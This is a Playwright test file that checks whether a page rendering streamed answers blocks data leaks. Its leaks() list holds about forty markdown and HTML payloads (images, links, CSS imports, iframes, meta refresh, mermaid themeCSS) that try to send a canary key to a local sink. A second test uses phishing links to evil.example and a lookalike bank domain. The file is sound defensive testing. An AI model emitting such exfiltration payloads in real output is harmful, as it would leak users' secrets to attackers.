import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from '@playwright/test'
import { serveAnswerPage, type AnswerPage } from '../support/answer-page.ts'

const canary = 'sk-canary-7f3a91'
const hits: string[] = []
const sink = createServer((request, response) => {
  hits.push(request.url ?? '')
  response.end()
})
let served: AnswerPage
let to = ''

test.beforeAll(async () => {
  await new Promise<void>(resolve => sink.listen(0, '127.0.0.1', resolve))
  to = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`
  served = await serveAnswerPage()
})
test.afterAll(async () => {
  await served.dispose()
  sink.closeAllConnections()
  sink.close()
})

function leaks(): string[] {
  const place = `${to}/leak?key=${canary}`
  return [
    `![status](${place})`, `![status][image]\n\n[image]: ${place}`, `[![click](${place})](${place})`, `[docs](${place})`, `[docs][link]\n\n[link]: ${place} "title"`, `<${place}>`, place, `<img src="${place}">`, `<img srcset="${place} 2x">`, `<picture><source srcset="${place}"><img></picture>`,
    `<link rel="stylesheet" href="${place}">`, `<link rel="preconnect" href="${to}">`, `<link rel="prefetch" href="${place}">`, `<link rel="dns-prefetch" href="//${canary}.example">`, `<iframe src="${place}"></iframe>`, `<video poster="${place}"></video>`, `<audio src="${place}"></audio>`, `<object data="${place}"></object>`,
    `<style>@import url("${place}");*{background:url("${place}")}</style>`, `<div style="background-image:url(${place})">x</div>`, `<svg><image href="${place}"/></svg>`, `<svg><use href="${place}#x"/></svg>`, `<form action="${place}"><input autofocus></form>`, `<meta http-equiv="refresh" content="0;url=${place}">`,
    `<a href="${place}" ping="${place}">x</a>`, `<base href="${to}/">\n\n![x](leak?key=${canary})`, `<script src="${place}"></script>`, `\`\`\`mermaid\n%%{init: {"themeCSS": "@import url('${place}')"}}%%\ngraph TD; A["<img src='${place}'>"]\n\`\`\``, `\`\`\`html\n<img src="${place}">\n\`\`\``,
    `| ![a](${place}) |\n|---|\n| ![b](${place}) |`, `- [x] ![c](${place})`, `[^1]\n\n[^1]: ![d](${place})`, `> ![e](${place})`, `# ![f](${place})`, `![g](//127.0.0.1:${new URL(to).port}/leak?${canary})`, `![h](ws://127.0.0.1:${new URL(to).port}/leak?${canary})`, `<input type="image" src="${place}">`,
    `<body background="${place}">`, `<table background="${place}"></table>`, `<track src="${place}">`, `<embed src="${place}">`,
  ]
}

test('S12 markdown images, links and reference links send nothing, with and without a policy', async ({ page }) => {
  for (const address of [served.url, served.bareUrl]) {
    const requests: string[] = []
    page.removeAllListeners('request')
    page.on('request', request => requests.push(request.url()))
    await page.goto(address)
    await page.waitForFunction(() => 'drawAnswers' in window)
    await page.evaluate(texts => window.drawAnswers(texts), leaks())
    // As it streams: each piece is drawn, half-written addresses too.
    for (const end of [20, 40, 60, 80]) await page.evaluate(texts => window.drawAnswers(texts), leaks().map(text => text.slice(0, end)))
    await page.evaluate(texts => window.drawAnswers(texts), leaks())
    for (const link of await page.locator('[role=link]').all()) await link.hover({ force: true, timeout: 2000 }).catch(() => undefined)
    await page.waitForTimeout(1000)
    expect(requests.filter(url => !url.startsWith(address))).toEqual([])
    expect(await page.locator('#root a, #root img').count()).toBe(0)
  }
  expect(hits).toEqual([])
  process.stdout.write(`S12: ${leaks().length} ways to send a canary away, drawn with and without a policy: the sink saw ${hits.length}\n`)
})

test('S12 a link shows its whole address beside its words', async ({ page }) => {
  await page.goto(served.url)
  await page.waitForFunction(() => 'drawAnswers' in window)
  await page.evaluate(texts => window.drawAnswers(texts), ['[Your bank](https://evil.example/login?x=1)', '[https://bank.example](https://evil.example/)', '[same](https://b\u0430nk.example/)'])
  const links = page.locator('[role=link]')
  await expect(links.nth(0)).toHaveText('Your bank (https://evil.example/login?x=1)')
  await expect(links.nth(1)).toHaveText('https://bank.example (https://evil.example/)')
  await expect(links.nth(2)).toContainText('xn--')
})

test('S12 the sink sees a page that does load an image', async ({ page }) => {
  await page.goto(served.bareUrl)
  await page.evaluate(source => {
    const image = document.createElement('img')
    image.src = source
    document.body.append(image)
  }, `${to}/control`)
  await expect.poll(() => hits).toContain('/control')
})
